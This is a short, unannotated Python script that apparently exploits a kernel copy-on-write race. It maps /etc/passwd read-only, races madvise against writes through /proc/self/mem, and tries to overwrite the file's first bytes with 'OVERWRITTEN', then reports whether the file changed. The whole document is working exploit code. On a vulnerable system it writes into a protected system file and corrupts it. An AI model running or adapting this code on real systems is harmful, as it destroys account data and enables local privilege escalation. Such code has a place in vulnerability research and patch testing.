import ctypes, os, threading, time

path = "/etc/passwd"
fd = os.open(path, os.O_RDONLY)
before = os.pread(fd, 100, 0)
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
at = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
end = time.time() + 0.7

def forget():
    while time.time() < end:
        libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4096), 4)

t = threading.Thread(target=forget)
t.start()
mem = os.open("/proc/self/mem", os.O_RDWR)
while time.time() < end:
    try:
        os.pwrite(mem, b"OVERWRITTEN", at)
    except OSError:
        break
t.join()
print("unchanged" if os.pread(os.open(path, os.O_RDONLY), 100, 0) == before else "changed")
